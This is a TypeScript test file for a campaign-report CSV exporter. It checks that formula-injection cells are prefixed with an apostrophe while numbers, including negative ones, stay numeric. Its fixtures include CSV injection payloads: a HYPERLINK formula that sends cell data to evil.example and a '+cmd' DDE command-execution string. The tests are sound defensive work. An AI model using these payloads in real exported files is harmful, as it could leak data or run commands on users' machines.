// CSV reports are data a spreadsheet opens: text that would run as a formula (OWASP CSV Injection) is
// prefixed with ', over a real report of hostile names and over any text fast-check makes up, while
// figures, negative ones included, stay numbers.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { Report } from '../metrics/report-types.js';
import { runReport } from '../metrics/run-report.js';
import { at, on, sends } from '../../test/support/conformance-cases.js';
import { openDuckDbStore } from '../store/duckdb/duckdb-store.js';
import { ingest } from '../../test/support/ingest-raw.js';
import { reportToCsv, spreadsheetSafe } from './report-csv.js';

const dir = mkdtempSync(join(tmpdir(), 'clickrate-csv-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const DANGEROUS = /^[=+\-@\t\r]/;
/** A figure as csv-stringify writes a number: "-2.5", "-1e-7" (Number() alone would take "\t5" too). */
const isFigure = (c: string): boolean => /^-?\d[\d.e+-]*$/.test(c) && Number.isFinite(Number(c));
const safe = (c: string): boolean => !DANGEROUS.test(c) || isFigure(c);
const cells = (csv: string): string[][] => parse(csv, { relax_column_count: false }) as string[][];

test('spreadsheetSafe: formula starters become text, everything else is unchanged', () => {
  const cases: Array<[string, string]> = [
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['A', 'A'],
    ['spring-sale', 'spring-sale'],
    ['a=b', 'a=b'],
    ['https://shop.example.com/?q=-1', 'https://shop.example.com/?q=-1'],
    ['', ''],
  ];
  for (const [input, want] of cases) assert.equal(spreadsheetSafe(input), want, JSON.stringify(input));
});

test('a stored report with hostile campaign, variant and link values: no cell runs as a formula', async () => {
  const store = await openDuckDbStore(join(dir, 'csv.duckdb'));
  try {
    const campaign = '=HYPERLINK("http://evil.example/","x")';
    const variants = ['@SUM(A1:A9)', "+cmd|' /C calc'!A0", '-2+3'];
    await ingest(store, [
      ...sends(6, campaign, 'm', (i) => ({ variant: variants[i % 3]! })),
      { type: 'click', ts: at(60), message: 'm0', url: 'https://shop.example.com/=1' },
      { type: 'click', ts: at(60), message: 'm2', url: 'https://shop.example.com/b' },
    ]);
    const report = await runReport(store, { campaign, by: 'variant' });
    const rows = cells(reportToCsv(report));
    const header = rows[0]!;
    for (const row of rows.slice(1)) {
      assert.equal(row[header.indexOf('campaign')], `'${campaign}`);
      assert.ok(variants.map((v) => `'${v}`).includes(row[header.indexOf('key')]!), row[header.indexOf('key')]);
      for (const c of row) assert.ok(safe(c), `cell ${JSON.stringify(c)}`);
    }
    // '+cmd…' has no click against the control's 1 in 2: a lift of -100, a number, not text.
    const lifts = rows.slice(1).map((r) => r[header.indexOf('comparison_ctr_lift')]!);
    assert.ok(
      lifts.some((l) => /^-\d/.test(l)),
      `a negative lift stays a number: ${lifts.join(' ')}`,
    );
  } finally {
    await store.close();
  }
});

test('the convention shared with the dashboard: numeric interval bounds, both p-values, click share as a fraction', async () => {
  const store = await openDuckDbStore(join(dir, 'convention.duckdb'));
  try {
    await ingest(store, [
      ...sends(40, 'conv', 'm', (i) => ({ variant: i % 2 === 0 ? 'A' : 'B' })),
      ...on('open', [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]),
      ...on('click', [0, 1, 3, 5, 7], 'm', 70, { url: 'https://shop.example.com/a' }),
      ...on('click', [1], 'm', 80, { url: 'https://shop.example.com/b' }),
    ]);
    const variants = parse(reportToCsv(await runReport(store, { campaign: 'conv', by: 'variant' })), { columns: true }) as Array<Record<string, string>>;
    const header = Object.keys(variants[0]!);
    for (const c of [
      'campaign',
      'window',
      'key',
      'ctr',
      'ctr_ci_low',
      'ctr_ci_high',
      'ctor_ci_low',
      'ctor_ci_high',
      'comparison_ctr_p_value',
      'comparison_ctor_p_value',
    ]) {
      assert.ok(header.includes(c), `${c} in ${header.join()}`);
    }
    assert.ok(!header.includes('comparison'), 'no empty column for the control\u2019s null comparison');
    const b = variants.find((r) => r.key === 'B')!;
    for (const c of ['ctr', 'ctr_ci_low', 'ctr_ci_high']) assert.ok(isFigure(b[c]!), `${c} = ${b[c]} is a plain number`);
    assert.ok(Number(b.ctr_ci_low) <= Number(b.ctr) && Number(b.ctr) <= Number(b.ctr_ci_high));
    const links = parse(reportToCsv(await runReport(store, { campaign: 'conv', by: 'link' })), { columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(
      links.map((l) => [l.key, Number(l.click_share)]),
      [
        ['https://shop.example.com/a', 5 / 6],
        ['https://shop.example.com/b', 1 / 6],
      ],
      'a fraction of the links\u2019 unique clicks, not a percentage',
    );
  } finally {
    await store.close();
  }
});

/** A report of made-up text and numbers in the places a stored report has them. */
const reportOf = (campaign: string, keys: string[], figures: number[]): Report =>
  ({
    campaign,
    kind: 'email',
    window: null,
    by: 'variant',
    totals: {},
    groups: keys.map((key, i) => ({ key, ctr: figures[i % figures.length] ?? null, raw: { ctr: -(figures[0] ?? 1) }, ctr_ci: [figures[0] ?? 0, 1] })),
  }) as unknown as Report;

test('property: no cell read back starts with a formula character unless it is a number', () => {
  const text = fc.oneof(
    fc.string(),
    fc.string({ unit: 'grapheme' }),
    fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((c) => fc.string().map((s) => c + s)),
  );
  fc.assert(
    fc.property(
      text,
      fc.array(text, { minLength: 1, maxLength: 4 }),
      fc.array(fc.double({ noNaN: true, noDefaultInfinity: true }), { minLength: 1, maxLength: 3 }),
      (campaign, keys, figures) => {
        const rows = cells(reportToCsv(reportOf(campaign, keys, figures)));
        const header = rows[0]!;
        for (const [i, row] of rows.slice(1).entries()) {
          for (const c of row) assert.ok(safe(c), `cell ${JSON.stringify(c)}`);
          // Text reads back as written, or with the one ' in front.
          assert.ok([campaign, `'${campaign}`].includes(row[header.indexOf('campaign')]!));
          assert.ok([keys[i], `'${keys[i]}`].includes(row[header.indexOf('key')]!));
        }
      },
    ),
  );
});
